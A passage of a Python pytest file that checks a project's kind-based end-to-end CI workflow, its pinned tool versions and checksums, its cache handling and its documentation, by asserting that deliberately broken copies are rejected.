    ("contents: write", _set(("jobs", "kind", "permissions"), {"contents": "write"}), "permissions"),
    ("packages too", _set(("jobs", "kind", "permissions"), {"contents": "read", "packages": "read"}),
     "permissions"),
    ("default token permissions", _set(("permissions",), DELETE), "top-level permissions"),
    ("superseded runs kept", _set(("concurrency", "cancel-in-progress"), False), "concurrency"),
    ("kubectl version in the workflow", _edit_with("azure/setup-kubectl@", "version", "v1.30.0"),
     "tests/e2e/versions.env"),
    ("helm version in the workflow", _edit_with("azure/setup-helm@", "version", "latest"),
     "tests/e2e/versions.env"),
    ("node image in the workflow",
     _set(("jobs", "kind", "env"), {"KIND_NODE_IMAGE": "kindest/node:v1.37.0"}), "one place"),
    ("no versions step", _drop_step("bash tests/e2e/kind.sh versions"), "id versions"),
    ("no cache", _drop_step("actions/cache@"), "exactly one actions/cache"),
    ("cache key without the versions hash",
     _edit_with("actions/cache@", "key", "e2e-kind-${{ runner.os }}-${{ runner.arch }}"),
     "hashFiles('tests/e2e/versions.env')"),
    ("cache key on another file",
     _edit_with("actions/cache@", "key", E2E_CACHE_KEY.replace("tests/e2e/versions.env", "tests/e2e/kind.sh")),
     "hashFiles('tests/e2e/versions.env')"),
    ("cache key without the runner arch",
     _edit_with("actions/cache@", "key", E2E_CACHE_KEY.replace("${{ runner.arch }}-", "")), "runner.arch"),
    ("cache restored from other pins", _edit_with("actions/cache@", "restore-keys", "e2e-kind-"),
     "restore-keys"),
    ("cache step after the make step", _move_step("actions/cache@", -1), "before make e2e-kind"),
    ("cache path mismatch", _edit_with("actions/cache@", "path", "~/.cache/other"),
     "is not the script's --cache-dir"),
    ("cache dir not given to the script",
     _edit_step("make e2e-kind", "run", "make e2e-kind E2E_ARGS='--install-kind --out build/e2e'"),
     "must pass --cache-dir"),
    ("cache action at an unrecorded commit",
     _edit_step("actions/cache@", "uses", "actions/cache@" + "1" * 40), "not pinned"),
]


@pytest.mark.parametrize("mutate, expected", [pytest.param(m, e, id=n) for n, m, e in WORKFLOW_MUTATIONS])
def test_e2e_workflow_policy_rejects_a_broken_copy(mutate, expected):
    broken = copy.deepcopy(E2E)
    mutate(broken)
    problems = e2e_workflow_problems(broken)
    assert any(expected in p for p in problems), problems


GOOD_DIGEST = "sha256:" + "ab" * 32
VERSION_MUTATIONS = [
    ("tag only", {"KIND_NODE_IMAGE": "kindest/node:v1.37.0"}, "version AND digest"),
    ("digest only", {"KIND_NODE_IMAGE": "kindest/node@" + GOOD_DIGEST}, "version AND digest"),
    ("short digest", {"KIND_NODE_IMAGE": "kindest/node:v1.37.0@sha256:abc123"}, "version AND digest"),
    ("latest", {"KIND_NODE_IMAGE": "kindest/node:latest"}, "version AND digest"),
    ("other image", {"KIND_NODE_IMAGE": "example.org/node:v1.37.0@" + GOOD_DIGEST}, "version AND digest"),
    ("older than the chart allows", {"KIND_NODE_IMAGE": "kindest/node:v1.26.15@" + GOOD_DIGEST},
     "below the chart's kubeVersion"),
    ("newer than the chart claims", {"KIND_NODE_IMAGE": "kindest/node:v1.37.0@" + GOOD_DIGEST,
                                     "KUBECTL_VERSION": "v1.37.0"}, "not the newest minor of the chart"),
    ("not the newest claimed", {"KIND_NODE_IMAGE": "kindest/node:v1.35.8@" + GOOD_DIGEST,
                                "KUBECTL_VERSION": "v1.35.8"}, "not the newest minor of the chart"),
    ("kubectl of another minor", {"KUBECTL_VERSION": "v1.35.2"}, "node's minor"),
    ("kind unversioned", {"KIND_VERSION": "latest"}, "KIND_VERSION"),
    ("no kind checksum", {"KIND_SHA256_LINUX_AMD64": None}, "keys"),
    ("bad kind checksum", {"KIND_SHA256_LINUX_ARM64": "deadbeef"}, "SHA-256"),
    ("metrics-server unpinned", {"METRICS_SERVER_VERSION": "latest"}, "METRICS_SERVER_VERSION"),
    ("Helm unlike CD", {"HELM_VERSION": "v3.18.0"}, "CD workflow"),
]


@pytest.mark.parametrize("change, expected", [pytest.param(c, e, id=n) for n, c, e in VERSION_MUTATIONS])
def test_e2e_versions_policy_rejects_a_broken_copy(change, expected):
    values = cs.e2e_versions()
    for key, value in change.items():
        if value is None:
            del values[key]
        else:
            values[key] = value
    problems = e2e_versions_problems(values)
    assert any(expected in p for p in problems), problems


SCRIPT_MUTATIONS = [
    ("no strict mode", ("\nset -euo pipefail\n", "\nset -e\n"), "strict mode"),
    ("no worker kill", ('kns delete pod "${old_pods[@]}"', "true"), "deleted mid-batch"),
    ("helm test without logs", ('--namespace "$namespace" --logs', '--namespace "$namespace"'),
     "helm test with logs"),
    ("no exactly-once count", ('[[ ${runs:-0} == 1 ]]', '[[ ${runs:-0} -ge 1 ]]'), "exactly once"),
    ("metrics-server with TLS checks", ("--kubelet-insecure-tls", "--kubelet-use-node-status-port"),
     "metrics-server for kind"),
    ("no trap", ("trap on_exit EXIT", ":"), "exit trap"),
    ("bad release not expected to fail", ("((rc == 1))", "((rc >= 0))"), "fail"),
    ("HPA drill dropped", ("all_drills=(helm-test smoke bad-release worker-kill hpa)",
                           "all_drills=(helm-test smoke bad-release worker-kill)"), "drills"),
    ("HPA drill never run", ("if wants hpa; then drill_hpa; fi", ":"), "hpa drill"),
    ("node image inline", ('--image "$kind_image"', '--image kindest/node:v1.37.0'), "node image"),
    ("cached archive never loaded", ('"$engine" load -i "$archive"', "true"), "cached node image loaded"),
    ("pulled image never saved", ('"$engine" save -o "$archive.partial" "$tagged"', "true"),
     "saved to the cache"),
    ("recorded digest unchecked", ('${BASH_REMATCH[2]} == "$pinned_digest"', "-n $pinned_digest"),
     "recorded digest checked"),
    ("loaded image ID unchecked", ('[[ "$engine $id" == "$saved_id" ]]', "true"), "ID checked"),
    ("cache of other pins used", ('$saved_ref == "$kind_node_image"', "-n $saved_ref"),
     "saved for the pin"),
    ("cached kind unchecked", ('$(sha256_of "$cached") == "$sha"', "-x $cached"),
     "cached kind binary checked"),
    ("node image after the build", ("  node_image\n  build_images\n", "  build_images\n  node_image\n"),
     "before the build"),
    ("kind binary unchecked", ('!= "$sha"', '== "x"'), "SHA-256"),
    ("port-forward on every address", ("port-forward --address 127.0.0.1", "port-forward --address 0.0.0.0"),
     "loopback"),
]


@pytest.mark.parametrize("edit, expected", [pytest.param(e, x, id=n) for n, e, x in SCRIPT_MUTATIONS])
def test_e2e_script_policy_rejects_a_broken_copy(edit, expected):
    old, new = edit
    assert old in E2E_SCRIPT_TEXT, f"the mutation no longer applies: {old!r}"
    problems = e2e_script_problems(E2E_SCRIPT_TEXT.replace(old, new))
    assert any(expected in p for p in problems), problems


def run_e2e_script(*args, env=None, timeout=60):
    return subprocess.run(["bash", cs.E2E_SCRIPT, *args], cwd=cs.REPO, capture_output=True,
                          text=True, timeout=timeout, env=cs.clean_env(env))


def test_e2e_script_prints_the_pinned_versions_for_the_workflow():
    proc = run_e2e_script("versions")
    assert proc.returncode == 0, proc.stderr
    values = cs.e2e_versions()
    assert proc.stdout.splitlines() == [
        f"kind-version={values['KIND_VERSION']}", f"kind-node-image={values['KIND_NODE_IMAGE']}",
        f"kubectl-version={values['KUBECTL_VERSION']}", f"helm-version={values['HELM_VERSION']}",
        f"metrics-server-version={values['METRICS_SERVER_VERSION']}"]
    # Exactly the outputs the workflow reads.
    used = set(re.findall(r"steps\.versions\.outputs\.([a-z-]+)", E2E_TEXT))
    assert used and used <= {line.split("=")[0] for line in proc.stdout.splitlines()}


def test_e2e_script_help_and_usage_errors():
    proc = run_e2e_script("--help")
    assert proc.returncode == 0 and all(d in proc.stdout for d in E2E_DRILLS), proc.stdout
    for args, message in [(["--drills", "smoke,chaos"], "unknown drill 'chaos'"),
                          (["--skip-build"], "--skip-build needs --tag"),
                          (["--engine", "lxc"], "--engine must be docker or podman"),
                          (["--tasks", "0"], "--tasks needs a positive whole number"),
                          (["--bad-timeout", "soon"], "duration"),
                          (["frobnicate"], "unknown command")]:
        proc = run_e2e_script(*args)
        assert proc.returncode == 2 and message in proc.stderr, (args, proc.stderr)


def _minimal_path(tmp_path, extra=()):
    """A PATH with only the basic tools (and the doubles in `extra`): no kind, kubectl, helm."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("bash", "dirname", "mkdir", "sed", "tr", "cat", "date", "grep", "uname", "cut",
                 "chmod", "mv", "rm", "sha256sum", "head", "cp", "mktemp"):
        found = shutil.which(tool)
        assert found, tool
        (bin_dir / tool).symlink_to(found)
    for name, body in extra:
        (bin_dir / name).write_text("#!/bin/bash\n" + body)
        (bin_dir / name).chmod(0o755)
    return str(bin_dir)


def test_e2e_script_stops_before_anything_when_tools_are_missing(tmp_path):
    out = tmp_path / "out"
    path = _minimal_path(tmp_path, [("docker", "exit 0\n")])
    proc = run_e2e_script("run", "--out", str(out), env={"PATH": path})
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "not installed or not on PATH: kind kubectl helm jq curl" in proc.stderr
    assert not (out / "summary.md").exists(), "nothing may have run"


def test_e2e_script_refuses_a_kind_binary_with_the_wrong_checksum(tmp_path):
    """install-kind checks the download against the pinned SHA-256 (the fake curl writes junk:
    no network here)."""
    fake_curl = 'while (($#)); do if [[ $1 == -o ]]; then echo junk >"$2"; shift; fi; shift; done\n'
    tools = tmp_path / "tools"
    proc = run_e2e_script("install-kind", "--tools-dir", str(tools),
                          env={"PATH": _minimal_path(tmp_path, [("curl", fake_curl)])})
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "does not have the pinned SHA-256" in proc.stderr
    assert not (tools / "kind").exists() and not (tools / ".kind.download").exists()


def test_e2e_script_does_not_install_a_cached_kind_with_the_wrong_checksum(tmp_path):
    """--cache-dir: a kind binary in the cache that is not the pin is not used; the download is
    checked as usual (junk again here), and neither is installed nor replaces the cached one."""
    fake_curl = 'while (($#)); do if [[ $1 == -o ]]; then echo junk >"$2"; shift; fi; shift; done\n'
    tools, cache = tmp_path / "tools", tmp_path / "cache"
    cache.mkdir()
    arch = {"x86_64": "amd64", "aarch64": "arm64"}[os.uname().machine]
    (cache / f"kind-linux-{arch}").write_text("not kind\n")
    proc = run_e2e_script("install-kind", "--tools-dir", str(tools), "--cache-dir", str(cache),
                          env={"PATH": _minimal_path(tmp_path, [("curl", fake_curl)])})
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "does not have the pinned SHA-256 of kind" in proc.stderr  # the cached one: warned
    assert "from https://github.com/kubernetes-sigs/kind/releases/download/" in proc.stderr
    assert not (tools / "kind").exists()
    assert (cache / f"kind-linux-{arch}").read_text() == "not kind\n"


# The node image cache offline: fake docker, kind, kubectl, helm, jq and curl; `docker load`
# and `docker image inspect` answer as the classic Docker store does (a loaded image has its
# tag, not its registry digest), `docker pull` and `save` fail (no network here).
E2E_IMAGE_ID = "sha256:" + "1d" * 32


def _node_cache(tmp_path, digest, image_id):
    pin = cs.e2e_versions()["KIND_NODE_IMAGE"]
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / "node-image.tar").write_text("an archive\n")
    (cache / "node-image.ref").write_text(pin + "\n")
    (cache / "node-image.digest").write_text(f"kindest/node@{digest}\n")
    (cache / "node-image.id").write_text(f"docker {image_id}\n")
    return pin, cache


def _run_with_node_cache(tmp_path, cache, loaded_id):
    calls = tmp_path / "calls.txt"
    log = f'echo "$(basename "$0") $*" >>{calls}\n'
    docker = log + f"""case "$1 $2" in
  "image inspect")
    if [[ $* == *'{{{{.Id}}}}'* ]]; then echo {loaded_id}; exit 0; fi
    [[ $* == *october-* ]] ;;
  "info "* | "load "* | "tag "*) exit 0 ;;
  *) exit 1 ;;
esac
"""
    kind = log + """case $1 in
  version) echo "kind v0.33.0 go1.25.0 linux/amd64" ;;
  get) ;;
  *) exit 1 ;;
esac
"""
    fakes = [("docker", docker), ("kind", kind), ("kubectl", log + "echo '{}'\n"),
             ("helm", log + "echo v4.1.4\n"), ("jq", "cat >/dev/null; echo 36\n"), ("curl", log + "exit 1\n"),
             ("basename", 'echo "${1##*/}"\n')]
    out = tmp_path / "out"
    proc = run_e2e_script("run", "--engine", "docker", "--skip-build", "--tag", "t1", "--out", str(out),
                          "--cache-dir", str(cache), env={"PATH": _minimal_path(tmp_path, fakes)})
    return proc, calls.read_text().splitlines(), out


def test_e2e_script_refuses_a_cached_node_image_of_another_digest(tmp_path):
    """An archive saved for the pinned reference but recording another digest is never loaded:
    a warning names it and the pinned digest is pulled instead (the fake pull fails here, so
    the run stops there, before any cluster)."""
    other = "sha256:" + "0" * 64
    pin, cache = _node_cache(tmp_path, other, E2E_IMAGE_ID)
    proc, calls, out = _run_with_node_cache(tmp_path, cache, E2E_IMAGE_ID)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert (f"{cache}/node-image.digest records 'kindest/node@{other}', not the pinned "
            f"{pin.split('@')[1]}: cached archive refused, pulling again") in proc.stderr
    assert not [c for c in calls if c.split()[:2] == ["docker", "load"]], calls
    assert f"docker pull docker.io/kindest/node@{pin.split('@')[1]}" in calls, calls
    assert not any(c.startswith("kind create") for c in calls), calls
    assert "| node-image | FAILED |" in (out / "summary.md").read_text()


def test_e2e_script_refuses_a_loaded_node_image_with_another_id(tmp_path):
    pin, cache = _node_cache(tmp_path, cs.e2e_versions()["KIND_NODE_IMAGE"].split("@")[1], E2E_IMAGE_ID)
    other_id = "sha256:" + "ee" * 32
    proc, calls, _ = _run_with_node_cache(tmp_path, cache, other_id)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert (f"has ID '{other_id}', not the recorded '{E2E_IMAGE_ID}': cached archive refused, "
            "pulling again") in proc.stderr
    assert f"docker load -i {cache}/node-image.tar" in calls, calls
    assert f"docker pull docker.io/kindest/node@{pin.split('@')[1]}" in calls, calls
    assert not any(c.startswith("kind create") for c in calls), calls


def test_e2e_script_creates_the_cluster_from_a_checked_cached_node_image(tmp_path):
    """Digest and ID as recorded: the archive is loaded, nothing is pulled, and kind gets the
    tag whose image ID was checked (the classic store keeps no registry digest across a load)."""
    pin, cache = _node_cache(tmp_path, cs.e2e_versions()["KIND_NODE_IMAGE"].split("@")[1], E2E_IMAGE_ID)
    proc, calls, out = _run_with_node_cache(tmp_path, cache, E2E_IMAGE_ID)
    assert proc.returncode == 1 and "kind create cluster failed" in proc.stderr, proc.stderr
    assert f"docker load -i {cache}/node-image.tar" in calls, calls
    assert not any(c.startswith("docker pull") for c in calls), calls
    create = [c for c in calls if c.startswith("kind create cluster")]
    assert len(create) == 1 and f"--image {pin.split('@')[0]} " in create[0], calls
    summary = (out / "summary.md").read_text()
    assert "| node-image | passed |" in summary and "| cluster | FAILED |" in summary, summary


def test_make_e2e_kind_is_the_script():
    recipe = (cs.REPO / "mk" / "cicd.mk").read_text().split("\ne2e-kind: ## ", 1)[1]
    assert 'bash tests/e2e/kind.sh run --namespace $(NAMESPACE)' in recipe
    assert "$(E2E_ARGS)" in recipe


def test_the_e2e_job_never_runs_under_make_test():
    """The kind script needs a cluster and the network: no ctest may start it."""
    for cmake in cs.REPO.glob("tests/**/CMakeLists.txt"):
        assert "e2e/kind.sh" not in cmake.read_text(), cmake
    assert not (cs.REPO / "tests" / "e2e" / "CMakeLists.txt").exists()


# --- docs ----------------------------------------------------------------------------------------------
def test_docs_cover_the_pipeline():
    docs = (cs.REPO / "docs" / "CI_CD.md").read_text()
    targets = re.findall(r"^([a-z0-9-]+): ## ", (cs.REPO / "mk" / "cicd.mk").read_text(), re.M)
    for needle in [*targets, "DEV_KUBECONFIG", "DEV_NAMESPACE", "DEV_INGRESS_HOST",
                   "base64 -w0", ":sha-", ":dev", ":latest", "vX.Y.Z", "--atomic",
                   "--rollback-on-failure", "minikube", "kind", "port-forward", "Trivy",
                   "helm rollback", "Troubleshooting", "no Kubernetes cluster", "actionlint",
                   "scripts/deploy.sh", "scripts/diagnostics.sh", "scripts/smoke.sh"]:
        assert needle in docs, f"docs/CI_CD.md does not mention {needle}"


def test_docs_cover_the_e2e_job():
    docs = (cs.REPO / "docs" / "CI_CD.md").read_text()
    values = cs.e2e_versions()
    for needle in [".github/workflows/e2e.yml", "tests/e2e/kind.sh", "tests/e2e/versions.env",
                   "make e2e-kind", "KIND_EXPERIMENTAL_PROVIDER=podman", "--keep", "FAIL_HEALTHZ",
                   "metrics-server", "only on GitHub", "Pods run under Podman (tests/deploy)",
                   "actions/cache", "--cache-dir", "hashFiles('tests/e2e/versions.env')",
                   "no `restore-keys`", "docker load", "node-image.digest",
                   values["KIND_VERSION"], values["KIND_NODE_IMAGE"], *E2E_DRILLS]:
        assert needle in docs, f"docs/CI_CD.md does not mention {needle}"
